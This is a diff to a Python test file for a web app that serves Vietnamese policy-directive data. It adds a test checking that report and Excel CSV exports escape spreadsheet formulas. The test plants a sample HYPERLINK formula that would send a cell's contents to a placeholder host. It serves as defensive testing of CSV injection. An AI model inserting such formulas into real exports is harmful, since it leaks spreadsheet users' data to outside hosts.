@@ -460,3 +460,41 @@ def test_a_ward_s_name_finds_the_documents_of_that_ward_also_after_a_reviewer_mo
     # near misses: the commune of that name in another province has none; the kind word typed is kept
     assert keys("xã Tam Thanh") == []
     assert keys("Đông Kinh") == [("08-KH/ĐU", "Phường Tam Thanh, Lạng Sơn")]  # (its issuer's name still holds it)
+
+
+@needs_queries
+def test_a_report_csv_never_hands_excel_a_formula_from_an_article(tmp_path):
+    """A target's sentence comes from an article; in the report's CSV (and the CSV for Excel) a sentence that begins
+    as a formula would ("=HYPERLINK(...)") is kept as text, while the CSV for scripts keeps it as it was."""
+    import csv
+    import io
+
+    from fastapi.testclient import TestClient
+
+    from kg.rdf.files import parse_file
+    from kg.store import Store
+    from kg.web import create_app
+
+    store = Store.bundled()
+    (doc,) = [row["d"].value for row in store.main.query(
+        'SELECT DISTINCT ?d WHERE { GRAPH ?g { ?d <https://w3id.org/directive-kg/ontology#key> "46-NQ/TW" } }')]
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Xem chi tiết")'
+    ttl = f"""@prefix dkg: <https://w3id.org/directive-kg/ontology#> .
+<https://w3id.org/directive-kg/id/target/hostile> a dkg:Target ; dkg:setBy <{doc}> ;
+    dkg:text {json_string(formula)} ; dkg:value 5 ; dkg:unit "xã" ; dkg:comparator ">=" .
+"""
+    store.main.extend(parse_file("hostile.ttl", ttl.encode("utf-8")))
+    c = TestClient(create_app(store))
+    params = {"doc": "46-NQ/TW"}
+    for extra in ({"report": "1"}, {"excel": "1"}):
+        text = c.get("/queries/targets.csv", params={**params, **extra}).text.lstrip("\ufeff")
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert "'" + formula in cells and formula not in cells
+    plain = c.get("/queries/targets.csv", params=params).text
+    assert formula in [cell for row in csv.reader(io.StringIO(plain)) for cell in row]
+
+
+def json_string(text: str) -> str:
+    import json
+
+    return json.dumps(text, ensure_ascii=False)
